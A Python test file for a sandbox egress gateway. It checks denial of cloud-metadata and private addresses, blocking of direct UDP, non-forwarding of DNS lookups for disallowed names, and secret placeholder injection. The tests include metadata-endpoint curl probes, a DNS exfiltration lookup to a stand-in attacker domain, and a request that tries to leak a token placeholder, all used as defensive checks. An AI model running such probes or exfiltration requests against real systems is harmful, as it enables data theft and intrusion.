"""The egress gateway's basic denials (SECURITY.md E1, E11, E16, E17), by real clients inside real jail
sandboxes (busybox nslookup, curl, python3) against one spaced with egress on and the upstream servers in a
network namespace this test creates. The daemon's config declares that namespace's subnet external
(egress_test_external_subnets), the one setting that lets a private address count as public. Nothing here
sends a packet beyond loopback, the sandboxes' own links and the test namespace: the "direct UDP" checks aim
at the test namespace, not at a public resolver, so a broken rule cannot leak a packet onto the real network.
The gateway's functional behaviour (network settings, allow lists, restarts) is tests/integration/test_egress.py."""

from __future__ import annotations

import json
import os
import time

from lib.egress import CURL, UPSTREAM, egress_daemon, python_tpl, sh, upstream, upstream_log  # noqa: F401


def test_e01_private_and_metadata_addresses_are_denied(egress_daemon, upstream, python_tpl):
    d = egress_daemon
    sid = d.client.create(template=python_tpl, network={"mode": "allow-all-public"})["id"]
    try:
        # Absolute-form GET and CONNECT through the explicit proxy, and a transparent connect.
        for target in ("169.254.169.254", "10.0.0.1", "127.0.0.1", "[::1]"):
            for how in ("", "-p ", "--noproxy '*' "):
                r = sh(d, sid, f"{CURL} {how}http://{target}/meta; echo rc=$?")
                assert "rc=0" not in r.out and "/meta" not in r.out, (target, how, r.out)
        log = d.client.raw("GET", f"/v1/sandboxes/{sid}/network/log")[2].decode()
        assert "169.254.169.254" in log and '"deny"' in log, log[-2000:]
    finally:
        d.client.delete(sid)


def test_e11_direct_udp_leaves_nothing(egress_daemon, upstream, python_tpl):
    d = egress_daemon
    policy = {"mode": "allow-list", "rules": [{"action": "allow", "domain": "allowed.test"}]}
    sid = d.client.create(network=policy)["id"]
    py = d.client.create(template=python_tpl, network=policy)["id"]
    try:
        before = len(upstream_log(upstream))
        # UDP to any other port is dropped; UDP/53 aimed straight at a resolver is redirected to the
        # gateway's, which answers NXDOMAIN for a name the policy does not allow and asks nobody.
        r = sh(d, py, "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                      f"print('sent', s.sendto(b'hello', ('{UPSTREAM}', 5353)))\"")
        assert "sent 5" in r.out, (r.out, r.err)  # the datagram left the process; nothing may receive it
        label = "direct" + os.urandom(4).hex()
        r = sh(d, sid, f"nslookup {label}.example {UPSTREAM}; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        r = sh(d, sid, f"nslookup allowed.test {UPSTREAM}")
        assert UPSTREAM in r.out, r.out  # answered: by the gateway, through the redirect
        time.sleep(0.5)
        after = upstream_log(upstream)[before:]
        assert not [e for e in after if e["kind"] == "udp"], f"a direct datagram reached the upstream: {after}"
        assert not [e for e in after if e["kind"] == "dns" and label in e["name"]], after
    finally:
        d.client.delete(sid)
        d.client.delete(py)


def test_e16_dns_for_a_disallowed_name_is_nxdomain_and_not_forwarded(egress_daemon, upstream):
    d = egress_daemon
    sid = d.client.create(network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "allowed.test"}]})["id"]
    try:
        secret_label = "exfil" + os.urandom(4).hex()
        r = sh(d, sid, f"nslookup {secret_label}.attacker.test; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        r = sh(d, sid, "nslookup allowed.test")
        assert UPSTREAM in r.out, r.out
        time.sleep(0.5)
        names = [e["name"] for e in upstream_log(upstream) if e["kind"] == "dns"]
        assert not any(secret_label in n for n in names), f"the disallowed name reached the upstream resolver: {names}"
    finally:
        d.client.delete(sid)


def test_e17_secret_is_injected_and_never_seen_inside(egress_daemon, upstream, python_tpl, tmp_path):
    d = egress_daemon
    value = "sk-live-" + os.urandom(16).hex()
    d.client.call("POST", "/v1/secrets", {"name": "TEST_TOKEN", "value": value, "hosts": ["secret.test"],
                                          "header": "Authorization", "format": "Bearer {}"})
    listed = d.client.call("GET", "/v1/secrets")["secrets"]
    assert [s["name"] for s in listed] == ["TEST_TOKEN"] and value not in json.dumps(listed)
    assert value.encode() not in (d.state / "space.db").read_bytes(), "secret value stored in clear"
    sid = d.client.create(template=python_tpl, secrets=["TEST_TOKEN"],
                          network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "secret.test"}]})["id"]
    try:
        r = sh(d, sid, "echo $TEST_TOKEN")
        placeholder = r.out.strip()
        assert placeholder.startswith("space_ph_") and value not in r.out, r.out
        r = sh(d, sid, 'curl -sS --max-time 10 https://secret.test/echo -H "Authorization: Bearer $TEST_TOKEN"')
        assert r.exit_code == 0, (r.out, r.err)
        assert value not in r.out, "the upstream's echo of the real value reached the sandbox"
        assert placeholder in r.out, r.out
        seen = [e for e in upstream_log(upstream) if e["kind"] == "http" and e["path"] == "/echo"]
        assert seen and seen[-1]["headers"].get("Authorization") == f"Bearer {value}", seen
        # Nowhere inside: environment, files the sandbox can read.
        r = sh(d, sid, f"grep -rl {value} /etc /root /tmp /usr/local 2>/dev/null; env | grep -c {value}; true")
        assert value not in r.out and r.out.strip().endswith("0"), r.out
        # The placeholder sent to an unbound host is blocked.
        r = sh(d, sid, 'curl -sS --max-time 10 -o /dev/null -w "%{http_code}" http://allowed.test/leak '
                       '-H "X-Key: $TEST_TOKEN"; echo " rc=$?"')
        assert not [e for e in upstream_log(upstream) if e.get("path") == "/leak"], r.out
    finally:
        d.client.delete(sid)
        d.client.call("DELETE", "/v1/secrets/TEST_TOKEN")
